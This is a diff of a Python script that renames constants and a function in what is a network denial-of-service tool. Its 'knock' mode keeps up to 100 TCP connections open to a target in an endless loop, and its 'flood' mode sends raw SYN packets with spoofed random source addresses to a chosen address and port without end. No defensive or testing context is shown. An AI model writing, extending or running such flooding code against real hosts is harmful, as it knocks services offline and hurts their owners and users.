@@ -15,12 +15,12 @@ import struct
 import sys
 import time
 
-KNOCK_S = 0.005
-OPEN = 100
-FLOOD_S = 0.001
+CONNECT_INTERVAL_S = 0.005
+OPEN_MAX = 100
+SYN_INTERVAL_S = 0.001
 
 
-def knock(address, port):
+def connect_repeatedly(address, port):
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
     tried = collections.deque()
     while True:
@@ -28,9 +28,9 @@ def knock(address, port):
         connection.setblocking(False)
         connection.connect_ex((address, port))
         tried.append(connection)
-        if len(tried) > OPEN:
+        if len(tried) > OPEN_MAX:
             tried.popleft().close()
-        time.sleep(KNOCK_S)
+        time.sleep(CONNECT_INTERVAL_S)
 
 
 def checksum(data):
@@ -54,13 +54,13 @@ def flood(address, port):
     while True:
         source = socket.inet_aton(f"203.0.113.{random.randrange(1, 255)}")
         out.sendto(syn(source, destination, random.randrange(1024, 65536), port), (address, 0))
-        time.sleep(FLOOD_S)
+        time.sleep(SYN_INTERVAL_S)
 
 
 def main(words):
     match words:
         case ["knock", address, port]:
-            knock(address, int(port))
+            connect_repeatedly(address, int(port))
         case ["flood", address, port]:
             flood(address, int(port))
         case _:
